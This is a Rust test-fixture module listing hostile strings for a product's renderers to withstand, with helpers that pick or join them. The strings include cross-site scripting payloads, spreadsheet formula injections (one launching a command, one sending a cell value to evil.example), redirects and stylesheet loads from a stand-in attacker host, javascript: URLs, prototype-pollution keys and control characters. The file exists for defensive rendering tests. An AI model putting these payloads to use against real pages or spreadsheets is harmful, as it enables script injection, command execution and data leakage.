//! Output that attacks whoever shows it: markup, scripts, formulas, control characters.
//!
//! Each entry is a classic of its kind. They are data for the product's renderers to survive.

use crate::chance::Dice;

const TEXTS: [&str; 20] = [
    "<script>alert('output')</script>",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(2)</script><!--",
    "[click](javascript:alert(3)) and ![x](javascript:alert(4))",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "a | b || c\n| --- | --- |\n```\ncode fence\n``` `tick` \\| \\",
    "line\u{2028}separator\u{2029}paragraph\r\ncarriage\rreturn",
    "\u{202e}desrever\u{202c} \u{2066}isolated\u{2069} \u{200b}zero\u{feff}width",
    "\u{1b}[31mred\u{1b}[0m \u{1b}]0;title\u{7} bell\u{8}",
    "\"quoted\", 'single', comma, {{template}} ${expr} %s %00 \u{0}nul",
    "\"><svg/onload=alert(5)>",
    "' autofocus onfocus='alert(6)' x='",
    "<iframe srcdoc=\"<script>parent.alert(7)</script>\"></iframe>",
    "<base href=\"http://evil.example/\"><link rel=stylesheet href=\"http://evil.example/x.css\">",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
    "<style>@import 'http://evil.example/x.css'; body { display: none }</style>",
    "[x]: javascript:alert(8)\n\n[x] <javascript:alert(9)> <https://evil.example/>",
    "~~~\nfence of tildes\n\n# heading",
];

/// Ends of kinds that nobody knows; on one line each, since a kind is the name of its event too.
const KINDS: [&str; 4] = [
    "progress_msg.<img src=x onerror=alert(10)>",
    "progress_msg.constructor",
    "<script>alert(11)</script>",
    "__proto__\" onmouseover=\"alert(12)",
];

const URLS: [&str; 5] = [
    "javascript:alert(document.domain)",
    "data:text/html,<script>alert(1)</script>",
    "https://user:pass@evil.example/\"><script>alert(1)</script>",
    "//evil.example/protocol-relative",
    "https://ok.example/a)b(c|d?e=<f>",
];

/// One hostile text.
pub(super) fn text(dice: &mut Dice) -> String {
    (*dice.pick(&TEXTS)).to_owned()
}

/// The kind and the text of a message at this place, of which its own kind is this: all texts in turn, and now and then a kind that nobody knows.
pub(crate) fn told(n: usize, kind: String) -> (String, String) {
    let unknown = (n % 3 == 2).then(|| KINDS[n / 3 % KINDS.len()].to_owned());
    (unknown.unwrap_or(kind), TEXTS[n % TEXTS.len()].to_owned())
}

/// Every hostile address.
pub(crate) fn urls() -> &'static [&'static str] {
    &URLS
}

/// Every hostile text, a paragraph each.
pub(crate) fn all() -> String {
    TEXTS.join("\n\n")
}

/// One hostile address.
pub(super) fn url(dice: &mut Dice) -> String {
    (*dice.pick(&URLS)).to_owned()
}
